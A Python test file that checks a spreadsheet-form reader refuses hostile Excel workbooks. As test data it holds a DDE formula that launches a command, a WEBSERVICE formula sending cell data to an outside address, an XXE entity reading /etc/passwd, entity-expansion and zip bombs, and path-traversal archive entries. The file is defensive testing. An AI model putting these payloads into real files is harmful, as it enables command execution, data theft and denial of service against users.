"""Hostile workbooks: what is in one besides what somebody typed is refused, or told, with its place."""

from __future__ import annotations

import re
import time
import zipfile
from collections.abc import Callable
from datetime import date
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from form_kit import BOUNDED, WHERE, as_workbook, beside_logo
from home_kit import everything
from hypothesis import given
from hypothesis import strategies as st

from difusor.partners.form.items import SECRET, read
from difusor.partners.form.received import open_form
from difusor.project import UnusableError

FORMULA = "lleva una fórmula"
CELLS = {
    "formula": ("=1+1", FORMULA),
    "hyperlink": ('=HYPERLINK("http://x.mx","Diario")', FORMULA),
    "dde": ("=cmd|'/c calc'!A0", FORMULA),
    "web": ('=WEBSERVICE("http://x.mx/"&A1)', FORMULA),
    "reference": ("='[otro.xlsx]Hoja1'!A1", FORMULA),
    "error": ("#REF!", "lleva un error"),
    "logical": (True, "un valor lógico"),
    "date": (date(2027, 6, 6), "lo tomó por una fecha"),
    "long": ("x" * 5000, "es demasiado largo"),
}


@pytest.mark.parametrize(("value", "words"), CELLS.values(), ids=CELLS.keys())
def test_a_cell_that_nobody_typed_is_refused_by_its_place(value: Any, words: str, tmp_path: Path) -> None:
    none, _, findings = read(open_form(as_workbook(tmp_path, {"red": value})))
    assert none is None and [each.key for each in findings] == ["red"]
    assert words in findings[0].sentence
    assert f"hoja ANEXO 2, celda {WHERE['red'][1]} (18." in findings[0].place


def test_a_formula_in_the_cell_of_the_password_is_a_password(tmp_path: Path) -> None:
    found = open_form(as_workbook(tmp_path, {SECRET: "=hunter2()"}))
    assert found.password and "hunter2" not in repr(found)


SHEET = "xl/worksheets/sheet1.xml"


@pytest.fixture(scope="module")
def book(tmp_path_factory: pytest.TempPathFactory) -> bytes:
    """Return the correct form as a workbook whose bytes are the same in every run."""
    moments = re.compile(rb"\d{4}-\d\d-\d\dT[\d:]+Z")

    def timeless(parts: dict[str, bytes]) -> None:
        parts["docProps/core.xml"] = moments.sub(b"2027-06-06T00:00:00Z", parts["docProps/core.xml"])

    return rewritten(as_workbook(tmp_path_factory.mktemp("libro")), timeless).read_bytes()


def rewritten(path: Path, change: Callable[[dict[str, bytes]], None]) -> Path:
    """Change the parts of a workbook's archive."""
    with zipfile.ZipFile(path) as archive:
        parts = {name: archive.read(name) for name in archive.namelist()}
    change(parts)
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in parts.items():
            archive.writestr(zipfile.ZipInfo(name), content, zipfile.ZIP_DEFLATED)
    return path


def part(name: str, content: bytes = b"x") -> Callable[[dict[str, bytes]], None]:
    return lambda parts: parts.update({name: content})


def in_sheet(old: bytes, new: bytes) -> Callable[[dict[str, bytes]], None]:
    def change(parts: dict[str, bytes]) -> None:
        assert old in parts[SHEET]
        parts[SHEET] = parts[SHEET].replace(old, new, 1)

    return change


RELATION = (
    b'<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r9" '
    b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/%s" Target="http://x.mx/x" '
    b'TargetMode="External"/></Relationships>'
)
ENTITY = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;">]><worksheet'
BOOKS: dict[str, tuple[Callable[[dict[str, bytes]], None], str]] = {
    "zip bomb": (lambda parts: parts.update({"xl/media/image1.png": b"\0" * (64 << 20)}), "se expande a demasiado"),
    "xml bomb": (lambda parts: parts.update({"xl/worksheets/sheet9.xml": b" " * (8 << 20)}), "se expande a demasiado"),
    "many parts": (lambda parts: parts.update({f"xl/x{n}.bin": b"" for n in range(500)}), "se expande a demasiado"),
    "macros": (part("xl/vbaProject.bin"), "macros"),
    "macro sheet": (part("xl/macrosheets/sheet1.xml"), "macros"),
    "activex": (part("xl/activeX/activeX1.bin"), "macros"),
    "declared macros": (
        lambda parts: parts.update({"[Content_Types].xml": parts["[Content_Types].xml"].replace(
            b"spreadsheetml.sheet.main", b"sheet.macroEnabled.main")}),
        "macros",
    ),
    "object": (part("xl/embeddings/oleObject1.bin"), "incrustados"),
    "external book": (part("xl/externalLinks/externalLink1.xml"), "otros libros"),
    "connection": (part("xl/connections.xml"), "conexiones"),
    "query": (part("xl/queryTables/queryTable1.xml"), "conexiones"),
    "external picture": (part("xl/drawings/_rels/drawing1.xml.rels", RELATION % b"image"), "otros archivos"),
    "external template": (part("xl/_rels/x.rels", RELATION % b"attachedTemplate"), "otros archivos"),
    "path": (part("../../etc/evaluado.xml"), "rutas que salen"),
    "absolute path": (part("/etc/evaluado"), "rutas que salen"),
    "windows path": (part("xl\\..\\..\\evaluado.xml"), "rutas que salen"),
    "entities": (in_sheet(b"<worksheet", ENTITY), "entidades"),
    "outside entity": (in_sheet(b"<worksheet", b'<!DOCTYPE x SYSTEM "file:///etc/passwd"><worksheet'), "entidades"),
    "utf-16": (
        lambda parts: parts.update({SHEET: parts[SHEET].decode().encode("utf-16")}),
        "entidades",
    ),
    "no workbook": (lambda parts: parts.pop("xl/workbook.xml") and None, "no es un libro"),
    "no sheet": (lambda parts: parts.pop(SHEET) and None, "no tiene la hoja «ANEXO 2»"),
    "broken sheet": (in_sheet(b"</sheetData>", b"<"), "no es un libro"),
}  # fmt: skip


@pytest.mark.parametrize(("change", "words"), BOOKS.values(), ids=BOOKS.keys())
def test_a_workbook_with_more_than_data_is_refused_in_a_sentence(
    change: Callable[[dict[str, bytes]], None], words: str, book: bytes, tmp_path: Path
) -> None:
    form = rewritten(beside_logo(tmp_path, "formato.xlsx", book), change)
    before, began = everything(tmp_path), time.process_time()
    with pytest.raises(UnusableError, match=words) as refused:
        open_form(form)
    assert str(refused.value).startswith("formato.xlsx: ") and str(refused.value).endswith("Nada se creó")
    assert time.process_time() - began < 10
    assert everything(tmp_path) == before


def test_a_link_that_excel_makes_of_an_address_is_no_trick(tmp_path: Path) -> None:
    """Excel makes of each address that is typed a link to outside; the cell has the text all the same."""

    def linked(book: openpyxl.Workbook) -> None:
        sheet, cell = WHERE["tecnico.correo"]
        book[sheet][cell].hyperlink = "mailto:sistemas@diarioderibelos.com.mx"

    form, _, findings = read(open_form(as_workbook(tmp_path, more=linked)))
    assert findings == [] and form


def test_rows_that_were_moved_or_doubled_are_told(tmp_path: Path) -> None:
    def moved(book: openpyxl.Workbook) -> None:
        book["ANEXO 2"].delete_rows(7)
        book["Anexo técnico"]["A8"] = "T1"
        book["Anexo técnico"]["B9"] = "Contraseña de root"

    found = read(open_form(as_workbook(tmp_path, more=moved)))[2]
    told = {each.key: each.sentence for each in found}
    assert "ya no está" in told["enlace"]
    assert "dos veces" in told["anexo_tecnico.participa_como"]
    assert {"anexo_tecnico.ssh_servidor", "anexo_tecnico.ssh_puerto"} <= told.keys()
    assert "tecnico.correo" not in told, "a row is known by its number, wherever it is"


def test_what_nobody_reads_is_told(tmp_path: Path) -> None:
    def hidden(book: openpyxl.Workbook) -> None:
        sheet = book.create_sheet("Oculta")
        sheet.sheet_state, sheet["A1"] = "veryHidden", "=1+1"

    form, _, findings = read(open_form(as_workbook(tmp_path, more=hidden)))
    assert form and [(each.weight, "«Oculta»" in each.sentence) for each in findings] == [("aviso", True)]


def test_a_missing_sheet_is_told(tmp_path: Path) -> None:
    with pytest.raises(UnusableError, match="no tiene la hoja «Anexo técnico»"):
        open_form(as_workbook(tmp_path, more=lambda book: book.remove(book["Anexo técnico"])))


def test_a_sheet_that_says_it_is_enormous_is_read_as_far_as_a_form_goes(tmp_path: Path) -> None:
    def enormous(book: openpyxl.Workbook) -> None:
        book["ANEXO 2"]["XFD1048576"] = "x"

    began = time.process_time()
    assert read(open_form(as_workbook(tmp_path, more=enormous)))[2] == []
    assert time.process_time() - began < 10


@BOUNDED
@given(st.data())
def test_a_damaged_workbook_is_told_in_a_sentence(book: bytes, tmp_path: Path, data: st.DataObject) -> None:
    content = bytearray(book)
    for _ in range(data.draw(st.integers(1, 6))):
        content[data.draw(st.integers(4, len(content) - 1))] = data.draw(st.integers(0, 255))
    del content[data.draw(st.integers(100, len(content))) :]
    try:
        read(open_form(beside_logo(tmp_path, "formato.xlsx", bytes(content))))
    except UnusableError as refused:
        assert "ada se creó" in str(refused)
